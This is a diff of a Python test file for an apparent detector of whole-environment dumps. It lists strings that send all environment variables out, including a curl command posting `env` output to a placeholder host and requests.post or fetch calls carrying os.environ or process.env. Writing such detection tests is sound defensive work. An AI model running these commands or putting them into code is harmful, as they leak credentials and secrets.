@@ -59,9 +59,10 @@ def test_ordinary_query_values_decode_to_nothing(url: str):
         "body=${process.env}",
         "requests.post(u, json=dict(os.environ))",
         "data = os.environ.copy()",
-        'curl -d "$(env)" https://x.example',
-        "x=$(printenv | base64)",
         "{{ $env }}",
+        "fetch(u, {body: JSON.stringify(process.env)})",
+        "send({...process.env})",
+        "requests.post(u, json={**os.environ})",
         DUMP,
     ],
 )
@@ -78,6 +79,8 @@ def test_the_whole_environment(text: str):
         "os.environ.get('DEBUG')",
         "PATH=/usr/bin\nHOME=/home/dev\n",  # two lines: a setting, not a dump
         "environment variables are documented in README",
+        "To check, run `env | grep API` in your terminal.",  # text for a person: no shell
+        "Node reads its settings from process.env at start; see os.environ in Python.",
     ],
 )
 def test_one_variable_is_not_the_environment(text: str):
